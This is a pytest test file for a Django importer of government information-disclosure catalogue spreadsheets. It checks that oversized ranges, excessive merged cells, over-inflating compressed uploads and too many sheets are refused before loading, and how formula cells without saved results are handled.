    wb, _ = W.baodi_social_assistance()
    wb.active["AX5000"] = "注：以上信息以正式文件为准"  # the last cell inside: read (a note after the table)
    assert parse_workbook(W.to_bytes(wb), default_level=COUNTY).errors == []
    for ref, where in (("AY1", (1, "AY")), ("A5001", (5001, "A"))):
        wb, _ = W.baodi_social_assistance()
        wb.active[ref] = "x"
        issue = refusal(parse_workbook(W.with_dimension(wb, "A1:N8")))
        assert (issue.row, issue.column) == where


def test_huge_and_too_many_merges_are_refused_before_loading(domains, no_loading):
    wb, _ = W.baodi_social_assistance()
    issue = refusal(parse_workbook(W.with_merges(wb, ["A1:DKN3000"])))  # 3000 × 3000 cells
    assert issue.sheet == "社会救助" and "合并区域 A1:DKN3000 超出导入范围" in issue.message

    issue = refusal(parse_workbook(W.with_merges(wb, ["A1:AX5000", "A1:AX5000"])))  # inside, but overlapping
    assert "合并单元格共覆盖超过 250000 个单元格" in issue.message

    pairs = [f"{get_column_letter(2 * (i % 25) + 1)}{i // 25 + 1}:{get_column_letter(2 * (i % 25) + 2)}{i // 25 + 1}"
             for i in range(10_001)]  # fmt: skip
    issue = refusal(parse_workbook(W.with_merges(wb, pairs)))
    assert "合并单元格超过 10000 处" in issue.message
    assert no_loading == []


def test_a_zip_that_inflates_past_the_limit_is_refused_before_loading(domains, no_loading):
    wb, _ = W.baodi_social_assistance()
    bomb = W.inflated(wb, 21)
    assert len(bomb.getvalue()) < 200_000
    issue = refusal(parse_workbook(bomb))
    assert (issue.sheet, issue.row) == ("", None)
    assert "解压后为 21.0 MB，超出导入上限 20 MB" in issue.message
    assert no_loading == []


def test_refusals_reach_the_command_and_the_admin_preview(domains, tmp_path, capsys, admin_client, settings):
    settings.MEDIA_ROOT = tmp_path / "media"
    settings.GK_PRIVATE_UPLOAD_DIR = tmp_path / "private"
    org = make_org(code="hx")
    path = save(W.far_corner_cells(), tmp_path)
    with pytest.raises(CommandError):
        call_command("import_catalogue", str(path), "--org", "hx")
    assert "工作表 社会救助：无法导入：工作表的使用区域为 A1:XFD1048576" in capsys.readouterr().out

    preview = admin_client.get(_upload(admin_client, W.far_corner_cells(), org)["Location"])
    assert preview.status_code == 200
    html = preview.content.decode()
    assert "使用区域为 A1:XFD1048576" in html and "确认导入为新草稿版本" not in html
    assert Catalogue.objects.count() == 0


def test_formula_without_a_saved_result_is_refused_at_its_cell(domains):
    wb, first = W.baodi_social_assistance()
    wb.active[f"D{first}"] = '="《社会救助暂行办法》"'  # openpyxl saves formulas without their result
    wb.active[f"A{first + 1}"] = "=A5+1"  # 序号 is not read: no reason to refuse it
    result = parse(wb)
    assert [(e.sheet, e.row, e.column, e.message) for e in result.errors] == [
        ("社会救助", first, "D", "单元格为公式且没有保存计算结果，请在 Excel 或 WPS 中打开并保存后再导入。")
    ]


def test_formula_with_a_saved_result_imports_the_result(domains):
    wb, first = W.baodi_social_assistance()
    wb.active[f"D{first}"] = '="《社会救助暂行办法》"'
    saved = W.with_cached_value(wb, f"D{first}", "《社会救助暂行办法》")
    result = parse_workbook(saved, default_level=COUNTY)
    assert result.errors == []
    assert result.rows[0].content == "《社会救助暂行办法》"


def test_header_label_that_is_a_formula_without_a_result_is_named(domains):
    wb, first = W.baodi_social_assistance()
    header = first - 2  # the two-row national header above the data
    assert wb.active[f"D{header}"].value == "公开内容（要素）"
    wb.active[f"D{header}"] = '="公开内容（要素）"'
    result = parse(wb)
    assert ("社会救助", header, "D", "单元格为公式且没有保存计算结果，请在 Excel 或 WPS 中打开并保存后再导入。") in [
        (e.sheet, e.row, e.column, e.message) for e in result.errors
    ]
    assert any(e.message.startswith("表头缺少“公开内容（要素）”列") for e in result.errors)


def test_cells_and_sheets_are_counted_over_the_whole_workbook(domains, monkeypatch, no_loading):
    upload = W.to_bytes(W.social_assistance_and_household())  # 社会救助, 户籍管理, Sheet2, Sheet3
    monkeypatch.setattr("gk_columns.workbook_scan.MAX_SHEETS", 3)
    assert "工作簿有 4 个工作表，超出导入上限 3 个" in refusal(parse_workbook(upload)).message
    monkeypatch.setattr("gk_columns.workbook_scan.MAX_SHEETS", 100)
    first_sheet = W.baodi_social_assistance()[0].active
    monkeypatch.setattr("gk_columns.workbook_scan.MAX_CELLS", len(first_sheet._cells) + 1)
    issue = refusal(parse_workbook(upload))
    assert issue.sheet == "户籍管理" and f"单元格超过 {len(first_sheet._cells) + 1} 个" in issue.message
    assert no_loading == []
